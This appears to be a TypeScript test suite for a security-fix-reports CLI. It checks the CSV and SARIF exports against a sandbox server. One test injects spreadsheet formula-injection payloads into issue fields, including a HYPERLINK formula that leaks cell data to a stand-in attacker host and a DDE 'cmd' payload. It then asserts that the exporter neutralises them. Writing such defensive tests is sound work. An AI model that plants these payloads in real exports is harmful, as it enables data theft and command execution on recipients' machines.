// The CLI's exports (`issues --format csv|sarif`) as a real child process against the sandbox:
// SARIF valid against the 2.1.0 schema with a run per report and a result per issue; CSV read
// back by csv-parse equal to `issues --format jsonl` apart from formula prefixes; formula
// injection from server text; summaries that fail or are turned off. The CLI is dist/cli.js
// (npm run build), or the bundle named by SFR_CLI.
import { strict as assert } from 'node:assert';
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Issue } from '../../src/api/schemas';
import { neutraliseFormula } from '../../src/model/csv';
import { ISSUE_CSV_COLUMNS } from '../../src/model/export/issueCsv';
import { FINGERPRINT_KEY } from '../../src/model/export/sarif';
import { isFalsePositive } from '../../src/model/issue';
import { issueLocations } from '../../src/model/locations';
import { createDataset, type Dataset, type SandboxIssue } from '../../tools/sandbox/generator';
import { startSandbox, type Sandbox } from '../../tools/sandbox/server';
import { observe } from '../support/evidence';
import { sarifSchemaErrors } from '../support/sarifSchema';

const CLI = process.env.SFR_CLI ?? join(__dirname, '..', '..', '..', 'dist', 'cli.js');

interface Result {
  code: number | null;
  stdout: Buffer;
  stderr: string;
}

function cli(args: string[], env: Record<string, string>): Promise<Result> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], { env: { PATH: process.env.PATH, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    const out: Buffer[] = [];
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => out.push(d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout: Buffer.concat(out), stderr }));
  });
}

const envOf = (sandbox: Sandbox) => ({ SECURITY_FIX_REPORTS_URL: sandbox.baseUrl, SECURITY_FIX_REPORTS_KEY: sandbox.key });
const readCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });
/** What UTF-8 output does to a lone surrogate. */
const wellFormed = (text: string) => text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');

/** An issue's CSV row as the projection of its JSON (from jsonl) onto the documented columns. */
function projection(json: Issue, reportId: string | null, vendor: string | null): string[] {
  const s = (v: unknown) => (v === null || v === undefined ? '' : String(v));
  const located = issueLocations(json)?.primary;
  const fix = json.fix as { id?: unknown } | null;
  const derived: Record<string, string> = {
    fixReportId: s(reportId),
    vendor: s(vendor),
    falsePositive: String(isFalsePositive(json)),
    tags: json.vulnerabilityReportIssueTags
      .map((t) => t.vulnerability_report_issue_tag_value)
      .filter((t) => t)
      .join(';'),
    fixId: typeof fix?.id === 'string' ? fix.id : '',
    file: s(located?.path),
    startLine: s(located?.startLine),
    endLine: s(located?.endLine),
    startColumn: s(located?.startColumn),
    endColumn: s(located?.endColumn),
  };
  return ISSUE_CSV_COLUMNS.map((c) => wellFormed(neutraliseFormula(c in derived ? derived[c]! : s(json[c as keyof Issue]))));
}

const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=cmd|"/c calc"!A1'];

/** The dataset with formulas at the start of the issues' text fields (the ids stay usable as cursors). */
function withFormulas(base: Dataset): Dataset {
  const poison = (issue: SandboxIssue): SandboxIssue => {
    const f = FORMULAS[parseInt(issue.id.slice(-2), 16) % FORMULAS.length]!;
    return {
      ...issue,
      vendorIssueId: f,
      issueType: `${f}${issue.issueType ?? ''}`,
      severity: f,
      issueLanguage: f,
      fingerprintHash: f,
      vendorInstanceId: f,
      fpDescription: issue.fpDescription === null ? null : `${f}\n${issue.fpDescription}`,
    };
  };
  const wrapped = Object.create(base) as Dataset;
  return Object.assign(wrapped, {
    issueAt: (reportId: string, index: number) => poison(base.issueAt(reportId, index)),
    issueRange: (reportId: string, start: number, count: number) => base.issueRange(reportId, start, count).map(poison),
    firstIssuesOfAll: (limit: number) => {
      const all = base.firstIssuesOfAll(limit);
      return { ...all, issues: all.issues.map(poison) };
    },
  });
}

describe('cli: issue exports (csv, sarif)', function () {
  this.timeout(120_000);
  let sandbox: Sandbox;
  let env: Record<string, string>;

  before(async function () {
    assert.ok(existsSync(CLI), `${CLI} is missing: run "npm run build" first (or set SFR_CLI)`);
    sandbox = await startSandbox({ dataset: { seed: 42, reports: 3, issuesPerReport: [200, 700], hostileText: true } });
    env = envOf(sandbox);
  });
  after(() => sandbox.close());
  afterEach(() => {
    sandbox.faults.clear();
    sandbox.clearRequests();
  });

  it('SARIF: a valid 2.1.0 log with one run per report (paged each) and a result per issue, FPs suppressed by their summaries', async () => {
    // The full profile: every issue (the default github profile is cliSarifGithub.test.ts).
    const result = await cli(['issues', '--format', 'sarif', '--sarif-profile', 'full'], env);
    assert.equal(result.code, 0, result.stderr);
    const log = JSON.parse(result.stdout.toString('utf8')) as SarifLog;
    assert.deepEqual(sarifSchemaErrors(log), []);
    const { reports } = sandbox.dataset;
    assert.deepEqual(
      log.runs.map((r) => r.properties.fixReportId),
      reports.map((r) => r.id),
    );
    let suppressed = 0;
    const fpIds = new Set<string>();
    for (const [k, run] of log.runs.entries()) {
      const report = reports[k]!;
      assert.equal(run.tool.driver.name, report.vulnerabilityReport!.vendor);
      assert.equal(run.automationDetails.id, `security-fix-reports/${report.vulnerabilityReport!.vendor}/${report.id}`);
      assert.equal(run.results.length, sandbox.dataset.issueCount(report.id), `every issue of ${report.id}`);
      for (const [i, r] of run.results.entries()) {
        const issue = sandbox.dataset.issueAt(report.id, i);
        assert.equal(r.properties.issueId, issue.id);
        assert.equal(r.ruleId, issue.vendorIssueId ?? undefined);
        assert.deepEqual(r.partialFingerprints, { [FINGERPRINT_KEY]: issue.fingerprintHash });
        for (const l of r.locations ?? []) assert.equal(l.physicalLocation.artifactLocation.uriBaseId, 'SRCROOT');
        if (!issue.fpId) {
          assert.equal(r.suppressions, undefined);
          continue;
        }
        suppressed++;
        fpIds.add(issue.fpId);
        const [s] = r.suppressions!;
        assert.equal(s!.kind, 'external');
        assert.equal(s!.status, 'accepted');
        assert.equal(s!.properties.fpId, issue.fpId);
        const summary = sandbox.dataset.fpSummary(issue.fpId)!;
        if (Array.from(summary).length <= 280) assert.equal(s!.justification, summary);
        else assert.ok(Array.from(s!.justification).length <= 281, 'an over-long summary is cut');
      }
    }
    const requests = sandbox.requests.filter((r) => r.path.endsWith('/fp-summary'));
    assert.equal(requests.length, fpIds.size, 'one summary request per fpId');
    assert.equal(
      sandbox.requests.filter((r) => r.path.endsWith('/v5/issues') && r.query.fixReportId === undefined).length,
      0,
      'each report paged on its own',
    );
    observe(`${log.runs.length} runs, ${suppressed} suppressed results, ${requests.length} fp-summary requests; schema-valid`);
  });

  it('SARIF: a failing summary falls back to fpDescription with a warning; --no-fp-summaries asks for none', async () => {
    const report = sandbox.dataset.reports.find((r) => r.id !== sandbox.dataset.hostileReportId)!;
    const fp = Array.from({ length: sandbox.dataset.issueCount(report.id) }, (_, i) => sandbox.dataset.issueAt(report.id, i)).find(
      (i) => i.fpId,
    )!;
    sandbox.faults.add({ route: 'fp-summary', times: 1, fault: { kind: 'status', status: 404 } });
    const failed = await cli(['issues', '--format', 'sarif', '--fix-report', report.id, '--fp-summary-concurrency', '1'], env);
    assert.equal(failed.code, 0, failed.stderr);
    assert.match(failed.stderr, /^warning: The summary of false positive \S+ could not be fetched \(.*\); using the first 280 characters/m);
    const log = JSON.parse(failed.stdout.toString('utf8')) as SarifLog;
    assert.deepEqual(sarifSchemaErrors(log), []);
    const first = log.runs[0]!.results.find((r) => r.suppressions)!;
    assert.equal(first.properties.issueId, fp.id);
    assert.equal(first.suppressions![0]!.justification, Array.from(fp.fpDescription!).slice(0, 280).join(''));
    observe(`fp-summary 404 → exit 0, ${failed.stderr.trim().split('\n')[0]}`);

    sandbox.clearRequests();
    const off = await cli(['issues', '--format', 'sarif', '--fix-report', report.id, '--no-fp-summaries'], env);
    assert.equal(off.code, 0, off.stderr);
    assert.equal(sandbox.requests.filter((r) => r.path.endsWith('/fp-summary')).length, 0);
    assert.equal(off.stderr, '');
  });

  it('CSV: read back by csv-parse, each row equals the jsonl object projected onto the columns, apart from formula prefixes', async () => {
    for (const report of sandbox.dataset.reports) {
      const [csv, jsonl] = await Promise.all([
        cli(['issues', '--format', 'csv', '--fix-report', report.id], env),
        cli(['issues', '--format', 'jsonl', '--fix-report', report.id], env),
      ]);
      assert.equal(csv.code, 0, csv.stderr);
      assert.equal(jsonl.code, 0, jsonl.stderr);
      const text = csv.stdout.toString('utf8');
      assert.ok(!text.startsWith('\ufeff'), 'no BOM by default');
      const [header, ...rows] = readCsv(text);
      assert.deepEqual(header, ISSUE_CSV_COLUMNS);
      const issues = jsonl.stdout
        .toString('utf8')
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l) as Issue);
      assert.equal(rows.length, issues.length);
      const vendor = report.vulnerabilityReport?.vendor ?? null;
      for (const [i, issue] of issues.entries())
        assert.deepEqual(rows[i], projection(issue, report.id, vendor), `row ${i + 1} of ${report.id}`);
    }
    const all = await cli(['issues', '--format', 'csv', '--state', 'FalsePositive', '--limit', '50'], env);
    const allJsonl = await cli(['issues', '--format', 'jsonl', '--state', 'FalsePositive', '--limit', '50'], env);
    const rows = readCsv(all.stdout.toString('utf8')).slice(1);
    const issues = allJsonl.stdout
      .toString('utf8')
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as Issue);
    assert.equal(rows.length, 50);
    assert.deepEqual(
      rows,
      issues.map((i) => projection(i, null, null)),
      'the unfiltered listing: no report id or vendor',
    );
  });

  it('CSV: formulas at the start of server text reach the spreadsheet as text; --bom writes a UTF-8 BOM first', async () => {
    const poisoned = await startSandbox({ dataset: withFormulas(createDataset({ seed: 5, reports: 1, issuesPerReport: [120, 120] })) });
    try {
      const reportId = poisoned.dataset.reports[0]!.id;
      const csv = await cli(['issues', '--format', 'csv', '--fix-report', reportId, '--bom'], envOf(poisoned));
      assert.equal(csv.code, 0, csv.stderr);
      assert.deepEqual([...csv.stdout.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
      const [, ...rows] = readCsv(csv.stdout.toString('utf8'));
      assert.equal(rows.length, 120);
      const poisonedColumns = ['vendorIssueId', 'issueType', 'severity', 'issueLanguage', 'fingerprintHash', 'vendorInstanceId'];
      for (const [i, row] of rows.entries()) {
        const issue = poisoned.dataset.issueAt(reportId, i);
        for (const name of poisonedColumns) {
          const cell = row[ISSUE_CSV_COLUMNS.indexOf(name)]!;
          assert.equal(cell, `'${issue[name as keyof SandboxIssue] as string}`, `${name} of row ${i + 1}`);
        }
        if (issue.fpDescription) assert.equal(row[ISSUE_CSV_COLUMNS.indexOf('fpDescription')], `'${issue.fpDescription}`);
        for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `no cell starts a formula: ${JSON.stringify(cell)}`);
      }
      observe(`${rows.length} rows, every formula start prefixed with '; first cell: ${JSON.stringify(rows[0]![3])}`);
    } finally {
      await poisoned.close();
    }
  });

  it('refuses export flags and formats where they mean nothing', async () => {
    const cases: [string[], RegExp][] = [
      [['reports', '--format', 'csv'], /"reports" writes table, json, jsonl, not csv/],
      [['issues', '--format', 'markdown'], /"issues" writes table, json, jsonl, csv, sarif, not markdown/],
      [['issues', '--format', 'sarif', '--bom'], /--bom goes with --format csv/],
      [['issues', '--format', 'csv', '--no-fp-summaries'], /go with --format sarif/],
      [['issues', '--format', 'sarif', '--fp-summary-concurrency', '0'], /--fp-summary-concurrency must be a whole number ≥ 1/],
      [['issues', '--fix-report', 'a', '--fix-report', 'b'], /"issues" takes one --fix-report \(got 2\)/],
    ];
    for (const [args, message] of cases) {
      const result = await cli(args, env);
      assert.equal(result.code, 2, args.join(' '));
      assert.match(result.stderr, message);
      assert.equal(result.stdout.length, 0);
    }
  });
});

interface SarifResult {
  ruleId?: string;
  locations?: { physicalLocation: { artifactLocation: { uri: string; uriBaseId: string } } }[];
  partialFingerprints?: Record<string, string>;
  suppressions?: { kind: string; status: string; justification: string; properties: { fpId: string } }[];
  properties: { issueId: string };
}
interface SarifLog {
  runs: {
    tool: { driver: { name: string } };
    automationDetails: { id: string };
    properties: { fixReportId: string };
    results: SarifResult[];
  }[];
}
